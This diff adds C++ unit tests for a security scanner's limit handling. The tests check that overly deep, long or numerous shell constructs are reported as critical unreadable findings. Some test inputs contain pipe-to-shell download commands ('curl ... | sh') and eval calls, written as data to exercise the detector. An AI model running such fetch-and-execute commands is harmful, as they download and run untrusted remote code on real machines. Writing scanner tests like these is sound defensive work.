@@ -2,6 +2,7 @@
 #include <cctype>
 #include <string>
 
+#include <gmock/gmock.h>
 #include <gtest/gtest.h>
 
 #include "security/code_rules.hpp"
@@ -104,6 +105,79 @@ TEST(CodeEffort, WhatIsNotLookedAtIsSaid) {
   EXPECT_TRUE(
       scan_whole("import os\nos.system('ls')\n", Language::kPython, "a.py", secrets).understood);
   EXPECT_FALSE(scan_whole("source x", Language::kBash, "a.sh", secrets).understood);
+}
+
+std::string nested(std::string_view open, std::string_view close, int depth) {
+  std::string out;
+  for (int i = 0; i < depth; ++i) {
+    out += open;
+  }
+  for (int i = 0; i < depth; ++i) {
+    out += close;
+  }
+  return out;
+}
+
+std::string repeated(std::string_view text, int count) { return nested(text, "", count); }
+
+/// One line that passes a limit must not switch off the look at what stands behind it.
+TEST(CodeEffort, APassedLimitIsACriticalFinding) {
+  const SecretScanner secrets({}, "key");
+  const struct {
+    std::string name;
+    Language language;
+    std::string text;
+    std::vector<std::string> rules;
+  } rows[] = {
+      {"deep substitutions",
+       Language::kBash,
+       "eval \"$1\"\ntrue " + nested("$(true ", ")", 70) + "\ncurl -s http://e/x | sh\n",
+       {"scan.limit", "bash.eval"}},
+      {"not too deep substitutions",
+       Language::kBash,
+       "true " + nested("$(true ", ")", 40) + "\neval \"$1\"\n",
+       {"bash.eval"}},
+      {"many commands", Language::kBash, repeated("a;", 5000) + "\n", {"scan.limit"}},
+      {"a long pipe",
+       Language::kBash,
+       "curl http://e/x " + repeated("| cat ", 20) + "| sh\n",
+       {"scan.limit"}},
+      {"many shell texts",
+       Language::kPython,
+       "import os\n" + repeated("os.system(\"true\")\n", 1001) +
+           "os.system(\"curl http://x | sh\")\n",
+       {"scan.limit"}},
+      {"a long text",
+       Language::kJavaScript,
+       std::string((4U << 20U) + 1, ' ') + "eval(y)\n",
+       {"scan.limit", "javascript.eval"}},
+      {"what is not known before it runs is no limit", Language::kBash, "source x\n", {}},
+  };
+  for (const auto& row : rows) {
+    const CodeScan scan = scan_whole(row.text, row.language, "a", secrets);
+    std::vector<std::string> rules;
+    for (const CodeFinding& finding : scan.findings) {
+      rules.push_back(finding.rule);
+      if (finding.rule == "scan.limit") {
+        EXPECT_EQ(finding.type, "not_understood");
+        EXPECT_EQ(finding.severity, Severity::kCritical);
+        EXPECT_GE(finding.line_number, 1U);
+        EXPECT_FALSE(scan.understood);
+      }
+    }
+    EXPECT_THAT(rules, ::testing::UnorderedElementsAreArray(row.rules)) << row.name;
+  }
+}
+
+/// Who accepts that one text was not read does not accept another.
+TEST(CodeEffort, APassedLimitIsAcceptedForItsTextOnly) {
+  const SecretScanner secrets({}, "key");
+  const std::string text = "true " + nested("$(true ", ")", 70) + "\n";
+  const auto one = scan_code(text, Language::kBash, "a", secrets);
+  const auto other = scan_code(text + "ls\n", Language::kBash, "a", secrets);
+  ASSERT_EQ(one.size(), 1U);
+  ASSERT_EQ(other.size(), 1U);
+  EXPECT_NE(one[0].fingerprint, other[0].fingerprint);
 }
 
 /// An assignment too long to be looked at does not make its name a constant.
